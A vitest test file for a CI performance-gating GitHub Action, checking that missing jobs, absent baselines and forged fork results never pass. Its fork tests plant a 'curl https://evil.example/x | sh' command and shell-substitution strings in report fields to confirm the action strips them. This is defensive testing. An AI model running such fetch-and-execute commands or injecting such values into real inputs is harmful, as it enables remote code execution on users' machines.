/** What is lost or forged between the jobs that measure and the one that publishes: nothing of it passes in silence. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join, resolve } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Report } from '../../src/handover/report.ts';
import { type Result, renderResult } from '../../src/handover/result.ts';
import { nameResult } from '../../src/handover/result-name.ts';
import { type Outcome, pullRequestEvent, run } from '../e2e/workflow.ts';
import { REPLAYED_K6 } from '../fixtures.ts';
import { GitHubServer } from '../github/server.ts';
import { pairedReportOf } from '../report/pair-fixture.ts';
import { commit, git, makeFolder, makeRepository } from '../revision/fixture.ts';

const HEAD = 'a'.repeat(40);
const TOKEN = 'ghs_0123456789abcdef';
const EVIL = 'curl https://evil.example/x | sh';

let server: GitHubServer;
let root: string;
let results: string;

beforeAll(async () => {
  server = await new GitHubServer('octo', 'shop').start();
  server.state.addToken(TOKEN);
  server.state.pulls.set(5, { headSha: HEAD });
});

afterAll(() => server?.stop());

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'tailgate-attacks-'));
  results = join(root, 'tailgate-results');
  mkdirSync(results);
  server.state.comments.length = 0;
  server.state.statuses.length = 0;
  return () => rmSync(root, { recursive: true });
});

type Step = {
  mode: string;
  event?: string;
  payload?: object;
  directory?: string;
  inputs?: object;
  /** That of the run: GITHUB_SHA. */
  commit?: string;
};

/** Runs the bundled action as a step of run 77, second attempt. */
async function runStep({ mode, event, payload, directory, inputs, commit = HEAD }: Step) {
  const files = Object.fromEntries(
    ['OUTPUT', 'STEP_SUMMARY', 'STATE'].map((name) => [`GITHUB_${name}`, join(root, name)]),
  );
  for (const path of Object.values(files)) writeFileSync(path, '');
  writeFileSync(join(root, 'event.json'), JSON.stringify(payload ?? pullRequestEvent(HEAD)));
  // A comment takes seconds, as it waits for those of other runs.
  const given = { mode, comment: 'never', 'github-token': TOKEN, store: join(root, 'store'), ...inputs };
  const env = {
    HOME: root,
    CI: 'true',
    RUNNER_TEMP: root,
    GITHUB_EVENT_NAME: event ?? 'pull_request',
    GITHUB_EVENT_PATH: join(root, 'event.json'),
    GITHUB_REPOSITORY: 'octo/shop',
    GITHUB_RUN_ID: '77',
    GITHUB_SHA: commit,
    GITHUB_RUN_ATTEMPT: '2',
    GITHUB_WORKSPACE: directory ?? root,
    GITHUB_API_URL: server.url,
    // Nothing is loaded here, so no run waits for another one.
    TAILGATE_K6: REPLAYED_K6,
    TAILGATE_LOCK: basename(root),
    TAILGATE_RUN: process.env.TAILGATE_RUN,
    ...files,
    ...Object.fromEntries(
      Object.entries(given).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value]),
    ),
  };
  const outcome = await run(process.execPath, [resolve('dist/action.mjs')], { cwd: root, env });
  return { ...outcome, told: readAll(outcome, Object.values(files)) };
}

/** All that a reader, or a later step, gets to see. */
function readAll({ log }: Outcome, files: string[]): string {
  const { comments, statuses } = server.state;
  return [log, ...files.map((path) => readFileSync(path, 'utf8')), JSON.stringify([comments, statuses])].join(
    '\n',
  );
}

function publish(inputs: object = {}, step: Omit<Step, 'mode' | 'inputs'> = {}) {
  return runStep({ mode: 'publish', inputs: { needs: 'measure', suites: 'default', ...inputs }, ...step });
}

function hand(more: Partial<Result> = {}, change: (report: Report) => void = () => {}): void {
  const suite = more.suite ?? 'default';
  const report = { ...pairedReportOf(), suite };
  Object.assign(report.record, { commit: HEAD, dirty: false });
  change(report);
  const result: Result = {
    schemaVersion: 1,
    tailgate: 'test',
    suite,
    job: { id: 'measure', name: '', index: 0, total: 1 },
    run: { id: '77', attempt: 2 },
    outcome: { kind: 'report', report, failOn: [] },
    ...more,
  };
  writeFileSync(join(results, nameResult(result)), renderResult(result));
}

const ofJob = (id: string): Result['job'] => ({ id, name: '', index: 0, total: 1 });

/** The job for forks has told what it had to, so it ends with 0; the status has the verdict. */
function expectNoForkPass({ status, told }: Outcome & { told: string }, words: string): void {
  expect(status, told).toBe(0);
  expect(told.replace(/\s+/g, ' ')).toContain(words);
  expect(server.state.statuses).toMatchObject([{ context: 'tailgate/default', state: 'error' }]);
}

function expectNoPass({ status, told }: Outcome & { told: string }, words: string): void {
  expect(status, told).toBeGreaterThanOrEqual(2);
  expect(told.replace(/\s+/g, ' ')).toContain(words);
  expect(server.state.statuses.map(({ state }) => state)).not.toContain('success');
}

describe('a job that is lost', () => {
  it('would have passed with the others', async () => {
    hand({ job: { id: 'measure', name: 'node 20', index: 0, total: 2 } });
    hand({ job: { id: 'measure', name: 'node 22', index: 1, total: 2 } });
    const { status, log } = await publish({ downloaded: 'success' });
    expect(status, log).toBe(0);
    expect(server.state.statuses).toMatchObject([{ context: 'tailgate/default', state: 'success' }]);
  });

  it('of a matrix does not pass', async () => {
    hand({ job: { id: 'measure', name: 'node 20', index: 0, total: 2 } });
    expectNoPass(await publish(), '2 of 2: no result arrived');
  });

  it('of two jobs does not pass, though each of them succeeded', async () => {
    hand({ suite: 'api', job: ofJob('first') });
    const needs = JSON.stringify({ first: { result: 'success' }, second: { result: 'success' } });
    expectNoPass(await publish({ needs, suites: '' }), 'No result of the job second arrived');
  });

  it('is not replaced by one of another job that was run again', async () => {
    hand({ job: ofJob('first'), run: { id: '77', attempt: 1 } });
    hand({ job: ofJob('second') });
    expectNoPass(await publish({ needs: 'first, second' }), 'Several jobs measured this suite');
  });

  it('does not pass where the results could not all be fetched', async () => {
    hand({ job: { id: 'measure', name: 'node 20', index: 0, total: 1 } });
    expectNoPass(await publish({ downloaded: 'failure' }), 'the step that fetches them did not succeed');
  });
});

describe('a base that cannot be had', () => {
  const CONFIG = `service:
  start: exec node server.js
  url: http://127.0.0.1:\${PORT}
scenarios:
  home:
    request: GET /
    slo: p90 < 1s at 10 req/s
measure:
  budget: 10s
baseline:
  confidence: 75%
  tolerance: 50%
`;
  /** One that could be measured alone, and would pass. */
  const SERVICE = `require('node:http').createServer((_, response) => response.end('ok')).listen(process.env.PORT);`;
  /** As a test merge is checked out, with `fetch-depth: 1`. */
  function checkOut(remote: string | null): { directory: string; head: string } {
    const shop = makeRepository({ 'tailgate.yml': CONFIG, 'server.js': SERVICE });
    git(shop, 'switch', '-q', '-c', 'feature');
    const head = commit(shop, { 'server.js': `${SERVICE}// slow` });
    git(shop, 'switch', '-q', 'main');
    commit(shop, { 'other.js': '' });
    git(shop, 'merge', '-q', '--no-ff', '-m', 'test merge', 'feature');
    const directory = join(makeFolder(), 'clone');
    git(shop, 'clone', '-q', '--depth=1', `file://${shop}`, directory);
    git(directory, 'remote', 'remove', 'origin');
    if (remote !== null) git(directory, 'remote', 'add', 'origin', remote);
    return { directory, head };
  }
  const queued = {
    merge_group: { base_sha: 'b'.repeat(40), head_sha: HEAD, base_ref: 'refs/heads/main' },
    repository: { default_branch: 'main' },
  };

  it.each([
    ['a pull request without a remote', 'pull_request', null],
    ['a pull request whose server refuses', 'pull_request', 'http://127.0.0.1:1/shop'],
    ['the queue', 'merge_group', 'http://127.0.0.1:1/shop'],
  ])('ends the run of %s with exit code 3', async (_, event, remote) => {
    const { directory, head } = checkOut(remote);
    const payload = event === 'merge_group' ? queued : pullRequestEvent(head);
    const { status, told } = await runStep({ mode: 'gate', event, payload, directory });
    expect(status, told).toBe(3);
    expect(told).toContain('No base to measure beside the head');
    expect(told).toContain('fetch-depth: 0');
    expect(told).toContain('contents: read');
  });

  it.each(['no repository', 'no common history'])('is not replaced by earlier runs for %s', async (why) => {
    const directory = makeRepository({ 'tailgate.yml': CONFIG, 'server.js': SERVICE });
    if (why === 'no repository') rmSync(join(directory, '.git'), { recursive: true });
    else {
      git(directory, 'switch', '-q', '--orphan', 'other');
      commit(directory, { 'tailgate.yml': CONFIG, 'server.js': SERVICE });
    }
    const { status, told } = await runStep({ mode: 'gate', directory });
    expect(status, told).toBe(3);
    expect(told).toContain('No base to measure beside the head');
    expect(told).toContain('from: history');
  });
});

describe('one step after another workflow', () => {
  const CONFIG = `when:
  changed: [server.js]
service:
  start: exec node server.js
  url: http://127.0.0.1:\${PORT}
scenarios:
  home:
    request: GET /
    slo: p90 < 1s at 100 req/s
`;
  const completed = (head: string) => ({
    action: 'completed',
    repository: { default_branch: 'main' },
    workflow_run: {
      id: 76,
      run_attempt: 1,
      event: 'pull_request',
      head_sha: head,
      head_branch: 'own',
      head_repository: { full_name: 'octo/shop', owner: { login: 'octo' } },
      conclusion: 'success',
    },
  });

  it('does not pass for a pull request whose head it has not checked out', async () => {
    // Nothing has to be measured for this.
    const directory = makeRepository({ 'tailgate.yml': CONFIG, 'server.js': '' });
    const own = commit(directory, { 'notes.md': '' });
    for (const head of [HEAD, own]) {
      server.state.pulls.set(9, { headSha: head, headBranch: 'own' });
      const step = { mode: 'gate', event: 'workflow_run', payload: completed(head), directory, commit: own };
      const outcome = await runStep(step);
      if (head === HEAD) expectNoPass(outcome, `The result is of commit ${own}, not of ${HEAD}.`);
      else expect(outcome.status, outcome.told).toBe(0);
    }
    server.state.pulls.delete(9);
  });
});

describe('a forged result of a fork', () => {
  const fork = {
    event: 'workflow_run',
    payload: {
      action: 'completed',
      repository: { default_branch: 'main' },
      workflow_run: {
        id: 77,
        run_attempt: 2,
        event: 'pull_request',
        head_sha: HEAD,
        head_branch: 'faster',
        head_repository: { full_name: 'stranger/shop', owner: { login: 'stranger' } },
        conclusion: 'success',
      },
    },
  };

  beforeAll(() => {
    const from = { headRepository: 'stranger/shop', headBranch: 'faster' };
    server.state.pulls.set(8, { headSha: HEAD, ...from });
  });

  it('is shown without the command that it wants people to run', async () => {
    hand({}, (report) => {
      report.reproduce = EVIL;
      report.verdict.pair!.baseCommit = `main; ${EVIL}`;
      Object.assign(report.verdict.slos[0]!, { code: 'missed', blocks: true });
      const { label } = report.verdict.slos[0]!;
      for (const step of report.record.steps) if (step.label === label) step.scenario = `x; ${EVIL}`;
    });
    const { told } = await publish({ comment: 'always' }, fork);
    expect(server.state.comments[0]!.body).toContain('Look closer: `tailgate run`');
    expect(told).not.toContain('evil.example');
  });

  it('puts no words of its own into the output that later steps may use', async () => {
    hand({}, (report) => {
      const finding = report.verdict.changes[0]!;
      Object.assign(finding, { code: 'regressed', label: '$(evil)"\'`evil`' });
      Object.assign(report.verdict, { code: 'regressed', blocks: true });
    });
    await publish({}, fork);
    const outputs = readFileSync(join(root, 'OUTPUT'), 'utf8');
    expect(outputs).toContain('default: regressed, as the run of a fork reports');
    expect(outputs).not.toContain('evil');
  });

  it('does not speak for a suite that the workflow does not have', async () => {
    hand();
    hand({ suite: 'other' });
    const outcome = await publish({ comment: 'always' }, fork);
    expectNoForkPass(outcome, 'does not name: other');
    expect(server.state.comments).toHaveLength(1);
  });

  it('does not hide that its own suite is missing', async () => {
    hand({ suite: 'other' });
    expectNoForkPass(await publish({}, fork), 'no result arrived');
  });
});
